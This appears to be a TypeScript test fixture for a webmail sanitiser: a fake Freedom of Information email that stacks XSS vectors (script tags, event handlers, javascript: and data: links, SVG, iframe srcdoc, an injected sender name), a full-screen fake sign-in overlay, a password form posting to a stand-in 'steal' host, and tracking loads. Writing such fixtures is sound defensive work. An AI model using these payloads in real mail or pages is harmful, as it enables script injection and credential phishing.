import { officer, type StoredConversation } from './mail.ts';

/// Mails that mean harm: what a webmail's sanitiser should have taken out and did not.

const items = 10_000;

/** Scripts, handlers, style sheets, an overlay and a form among three questions. `window.hacked` shows a success. */
export function trapped(list: readonly string[]): string {
  return `
<style>@import url(https://tracker.example.com/a.css); * { color: crimson } .g3, [data-convid] { display: none }</style>
<div onmouseover="window.hacked = 1">
<p>Dear FOI Officer, under the Freedom of Information Act please answer these questions.</p>
<script>window.hacked = 1; document.title = 'hacked';</script>
<script src="https://tracker.example.com/x.js"></script>
<style>* { letter-spacing: 2px !important; text-transform: uppercase !important }</style>
<img src="https://tracker.example.com/pixel.gif" onerror="window.hacked = 1" alt="">
<svg onload="window.hacked = 1"><script>window.hacked = 1</script></svg>
<iframe src="https://tracker.example.com/frame" srcdoc="<script>parent.hacked = 1</script>"></iframe>
<div style="position:fixed;inset:0;z-index:2147483647;background:#fff8">Sign in again to read this mail.</div>
<form action="https://tracker.example.com/steal"><input name="password" type="password" autofocus><button>Sign in</button></form>
<p>1. Please <a href="javascript:window.hacked=1">open this</a> and <a href="data:text/html,<script>alert(1)</script>">this</a>.</p>
<p>2. What is &lt;img src=x onerror=window.hacked=1&gt; and {{reference}} to you?</p>
<p>3. Who reads \u202Esdrawkcab\u202C and zero\u200B-width\u00AD words?</p>
<details open ontoggle="window.hacked = 1"><summary>More</summary></details>
<math><mi xlink:href="javascript:window.hacked=1">x</mi></math>
<template><img src="x" onerror="window.hacked = 1"></template>
<ol onclick="window.hacked = 1">${list.join('')}</ol>
</div>`;
}

function hostileHtml(): string {
  // A handler on each of them would only bury the browser's console: the list is there for its length.
  return trapped(Array.from({ length: items }, (_, at) => `<li>Claim number ${at + 1}</li>`));
}

/** Every trap, and a list of 10,000 items. */
export const hostile: StoredConversation = {
  id: 'hostile',
  subject: 'FOI <img src=x onerror="window.hacked=1"> request, please open at once',
  messages: [
    {
      from: { name: '"><script>window.hacked=1</script>', email: 'nobody@tracker.example.com' },
      to: officer,
      at: '2026-11-06T03:33:00+00:00',
      body: hostileHtml,
    },
  ],
};
